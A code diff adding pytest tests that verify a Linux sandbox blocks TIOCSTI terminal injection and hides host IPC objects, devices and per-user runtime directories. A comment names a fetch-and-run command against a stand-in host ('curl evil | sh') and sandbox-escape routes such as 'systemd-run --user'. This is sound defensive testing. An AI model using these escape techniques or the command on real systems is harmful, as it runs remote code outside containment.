@@ -10,12 +10,18 @@ the attack works there, so its failure inside proves the jail, not a broken prob
 
 from __future__ import annotations
 
+import ctypes
 import json
 import os
 import platform
+import select
+import shutil
+import socket
 import subprocess
 import time
+import tty
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -175,3 +181,79 @@ def test_filter_is_on_and_no_capability_is_left(jail_world: JailWorld) -> None:
     assert info["caps"] == dict.fromkeys(("CapInh", "CapPrm", "CapEff", "CapAmb"), "0" * 16)
     # No descriptor of egress exec's leaks in (the namespace handle, the filter, the pipe).
     assert info["fds"] == []
+
+
+def test_terminal_input_cannot_be_injected(jail_world: JailWorld) -> None:
+    # TIOCSTI pushes bytes into a terminal's input: whatever the caller's shell reads after
+    # the jail ends (`curl evil | sh\n`) would run outside it. The jail shares the caller's
+    # terminal (interactive commands need it), so the filter refuses the ioctl.
+    w = jail_world
+    setsid = shutil.which("setsid")
+    if setsid is None:
+        pytest.skip("needs setsid from util-linux")
+    argv = w.probe_argv(op="tiocsti", fd=0, char="X")
+    for jailed in (False, True):
+        master, slave = os.openpty()
+        tty.setraw(slave)  # no line buffering: one injected byte is readable at once
+        try:
+            command = [setsid, "--wait", "--ctty", *(w.exec_argv(argv) if jailed else argv)]
+            result = subprocess.run(command, stdin=slave, capture_output=True, text=True,
+                                    timeout=60, env=w.env(),
+                                    **({} if jailed else {"user": JAILED_UID, "group": JAILED_UID,
+                                                          "extra_groups": []}))
+            answer = json.loads(result.stdout.strip().splitlines()[-1])
+            injected = select.select([slave], [], [], 0.3)[0] and os.read(slave, 64)
+        finally:
+            os.close(master)
+            os.close(slave)
+        if not jailed:  # control: the kernel allows it outside
+            if answer != {"ok": True}:
+                pytest.skip(f"this kernel refuses TIOCSTI itself: {answer}")
+            assert injected == b"X"
+        else:
+            assert answer == {"ok": False, "error": "EPERM"}
+            assert not injected
+
+
+def test_host_ipc_objects_are_invisible(jail_world: JailWorld) -> None:
+    libc = ctypes.CDLL(None, use_errno=True)
+    queue = libc.msgget(0, 0o1666)  # IPC_PRIVATE, IPC_CREAT | 0666: anyone may use it
+    assert queue >= 0, os.strerror(ctypes.get_errno())
+    try:
+        outside_ids = outside(jail_world, op="read", path="/proc/sysvipc/msg")["text"]
+        assert f" {queue} " in outside_ids  # control
+        inside = jail_world.probe(op="read", path="/proc/sysvipc/msg")["text"]
+        assert inside.splitlines()[1:] == []  # only the header: the jail's own IPC namespace
+    finally:
+        libc.msgctl(queue, 0, None)  # IPC_RMID
+
+
+def test_devices_are_a_minimal_private_set(jail_world: JailWorld) -> None:
+    listing = jail_world.probe(op="listing", paths=["/dev", "/dev/pts"])["paths"]
+    assert set(listing["/dev"]) <= {"console", "core", "fd", "full", "mqueue", "null", "ptmx",
+                                    "pts", "random", "shm", "stderr", "stdin", "stdout", "tty",
+                                    "urandom", "zero"}, listing["/dev"]
+    assert set(listing["/dev/pts"]) <= {"ptmx"}  # a new devpts: none of the host's terminals
+
+
+def test_per_user_runtime_directories_are_hidden(jail_world: JailWorld) -> None:
+    # The session bus and systemd --user live in /run/user/UID: `systemd-run --user` would
+    # start anything outside the jail. A stand-in socket shows what the jail sees there.
+    runtime = Path("/run/user")
+    made = [p for p in (runtime, runtime / str(JAILED_UID)) if not p.exists()]
+    for path in made:
+        path.mkdir(mode=0o755)
+    os.chown(runtime / str(JAILED_UID), JAILED_UID, JAILED_UID)
+    bus = runtime / str(JAILED_UID) / "egress-test-bus"
+    sock = socket.socket(socket.AF_UNIX)
+    try:
+        sock.bind(str(bus))
+        path = str(runtime / str(JAILED_UID))
+        assert outside(jail_world, op="listing", paths=[path])["paths"][path] == [bus.name]
+        seen = jail_world.probe(op="listing", paths=["/run/user", path])["paths"]
+        assert seen == {"/run/user": [], path: "ENOENT"}
+    finally:
+        sock.close()
+        bus.unlink(missing_ok=True)
+        for created in reversed(made):
+            created.rmdir()
